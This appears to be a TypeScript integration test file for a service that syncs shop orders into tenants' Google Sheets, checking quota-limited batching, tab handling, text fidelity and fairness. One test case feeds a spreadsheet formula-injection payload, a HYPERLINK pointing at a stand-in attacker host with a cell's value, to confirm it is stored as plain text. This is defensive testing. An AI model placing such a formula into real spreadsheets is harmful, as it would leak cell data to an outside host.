import { ORDER_ID, SHEET_COLUMNS } from '../../domain/sheets/columns';
import { CELL_MAX_UNITS } from '../../domain/sheets/order-cells';
import { accepted, openDoor } from '../support/doors';
import { eventually } from '../support/eventually';
import { searchAttributes } from '../support/histories';
import { sampleBody } from '../support/sample-order';
import { createSheetScene, type SheetScene } from '../support/sheet-scene';
import { ourRows } from '../support/sheet-shop';

let scene: SheetScene;

beforeAll(async () => {
  scene = await createSheetScene();
  await scene.startSync();
});
beforeEach(() => {
  scene.google.heal();
  scene.google.resetQuota();
  return scene.database.owner.query('DELETE FROM google_call_budgets');
});
afterAll(() => scene.close());

const writes = (spreadsheet_id: string) => scene.google.calls({ kind: 'write', spreadsheet_id });

/** Leaves the reads of this spreadsheet unanswered, also those that follow one which was given up, until it is told to let them go. */
function holdReads(spreadsheet_id: string): () => void {
  let letGo = () => {};
  const released = new Promise<void>((resolve) => {
    letGo = resolve;
  });
  const hold = (): void =>
    scene.google.beforeNext({ kind: 'read', spreadsheet_id }, async () => {
      hold();
      await released;
    });
  hold();
  return letGo;
}

describe("a tenant's sheet", () => {
  it('gets its tab, its header and every order of a burst, each once, in at most 12 writes at Google’s quota', async () => {
    const { shop, view } = await scene.openShop();
    // The sync writes every four seconds as long as orders come: their number is to count, not how long it takes to place them.
    const letGo = holdReads(view.spreadsheetId);
    await shop.place();
    await shop.placeMany(999, 20);
    letGo();
    await shop.untilSynced();
    await shop.expectEqual(view);
    expect((await view.rows())?.[0]).toEqual([...SHEET_COLUMNS]);
    expect(writes(view.spreadsheetId).length).toBeLessThanOrEqual(12);
    expect(scene.google.calls().filter(({ status }) => status === 429)).toEqual([]);
    expect(await shop.attempts()).toEqual(expect.arrayContaining([expect.objectContaining({ result: 'synced' })]));
    const told = (await shop.attempts()).flatMap(({ order_ids }) => order_ids);
    expect(new Set(told).size).toBe(1_000);
  }, 120_000);

  it('shows what an order’s own door placed and moved, and says by whom it was asked', async () => {
    const { shop, view } = await scene.openShop({ userId: scene.tenant.userId });
    const worker = await scene.startWorker();
    const api = await scene.startApi();
    const door = openDoor('gRPC', api, scene.tenant.key);
    const { order } = accepted(await door.create(sampleBody()));
    await shop.untilSynced();
    accepted(await door.move(order.id, 'confirmed'));
    const shown = async () => ourRows((await view.rows()) ?? [])[0]?.Status;
    await eventually('the move to be on the sheet', async () => (await shown()) === 'confirmed');
    await shop.untilSynced();
    await shop.expectEqual(view);
    const [first] = await shop.attempts();
    expect(first).toMatchObject({
      result: 'synced',
      cause: null,
      attempt: 1,
      order_ids: [order.id],
      appended: 1,
      updated: 0,
    });
    expect(first?.correlation_ids).toEqual([expect.stringMatching(/^req_/)]);
    door.close();
    await api.stop();
    await worker.stop();
  });

  it('is looked at once more and then left alone until the next order', async () => {
    const { shop, view } = await scene.openShop();
    await shop.place();
    await shop.untilSynced();
    expect(await searchAttributes(shop.sync())).toMatchObject({ TenantId: shop.userId, SheetSync: 'syncing' });
    await shop.sync().result();
    expect(writes(view.spreadsheetId)).toHaveLength(1);
    await shop.place();
    await shop.untilSynced();
    await shop.expectEqual(view);
  });

  it('keeps a tenant that switched it off out of Google, and ends the run', async () => {
    const { shop, view } = await scene.openShop();
    await shop.place();
    await shop.untilSynced();
    await shop.change({ sheets_sync_enabled: false });
    await shop.place();
    shop.nudge();
    await shop.sync().result();
    expect(await shop.unsynced()).toBe(1);
    expect(writes(view.spreadsheetId)).toHaveLength(1);
  });

  it('is written to from the beginning when it is another one', async () => {
    const { shop } = await scene.openShop();
    await shop.placeMany(5);
    await shop.untilSynced();
    const { view: next } = await scene.openShop({ userId: shop.userId, tab: 'Bestellungen’s' });
    await shop.place();
    shop.nudge();
    await shop.untilSynced();
    await eventually('all six orders', async () => ((await next.rows()) ?? []).length === 7);
    await shop.expectEqual(next);
  });
});

describe('text', () => {
  it.each([
    ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"open")'],
    ['a plus', '+49 30 901820'],
    ['leading zeros', '007'],
    ['an apostrophe', "'42"],
    ['a date', '2026-01-02'],
    ['emoji', '🍕👩‍👩‍👧 👍🏽'],
    ['line feeds', 'ring twice\nsecond floor'],
    ['another script', 'مرحبا שלום नमस्ते'],
  ])('arrives as it is: %s', async (_, text) => {
    const { shop, view } = await scene.openShop();
    await shop.place({ customerName: text, notes: text });
    await shop.untilSynced();
    await shop.expectEqual(view);
    const tab = scene.google.spreadsheet(view.spreadsheetId).tabs.find(({ title }) => title === view.tab);
    const notes = tab?.rows[1]?.[SHEET_COLUMNS.indexOf('Notes')];
    expect(JSON.stringify(notes)).toContain('string');
    expect(ourRows((await view.rows()) ?? [])[0]).toMatchObject({ Customer: text, Notes: text });
  });

  it('of 50,000 characters arrives whole, and longer text with a mark where it was cut', async () => {
    const { shop, view } = await scene.openShop();
    const items = (length: number) => [{ name: 'x'.repeat(length - '1 × '.length), quantity: 1 }];
    await shop.place({ items: items(CELL_MAX_UNITS) });
    await shop.place({ items: items(CELL_MAX_UNITS + 1) });
    await shop.untilSynced();
    await shop.expectEqual(view);
    const shown = ourRows((await view.rows()) ?? []).map(({ Items }) => Items ?? '');
    expect(shown.map(({ length }) => length)).toEqual([CELL_MAX_UNITS, CELL_MAX_UNITS]);
    expect(shown.filter((text) => text.endsWith('[cut: a cell takes no more]'))).toHaveLength(1);
  });
});

describe('twenty tenants on one account', () => {
  it('all get their orders into their sheets at Google’s quota, and none waits much longer than the others', async () => {
    const shops = await Promise.all(Array.from({ length: 20 }, () => scene.openShop()));
    scene.google.clearCalls();
    const since = Date.now();
    await Promise.all(shops.map(({ shop }) => shop.placeMany(20, 20)));
    const waited = await Promise.all(
      shops.map(async ({ shop }) => {
        await shop.untilSynced(170_000);
        return Date.now() - since;
      }),
    );
    for (const { shop, view } of shops) await shop.expectEqual(view);
    expect(scene.google.calls().filter(({ status }) => status === 429)).toEqual([]);
    expect(scene.google.calls({ kind: 'read' }).map(({ spreadsheetId }) => spreadsheetId)).toEqual(
      expect.arrayContaining(shops.map(({ view }) => view.spreadsheetId)),
    );
    // First come, first served: the last of them had its turn within its place in the queue, not after others' second turns.
    expect(Math.max(...waited)).toBeLessThan(120_000);
  }, 200_000);
});

it('the header is that of the contract', () => {
  expect(SHEET_COLUMNS).toEqual([
    ORDER_ID,
    'Date',
    'Customer',
    'Phone',
    'Items',
    'Total Qty',
    'Status',
    'Source',
    'Notes',
  ]);
});
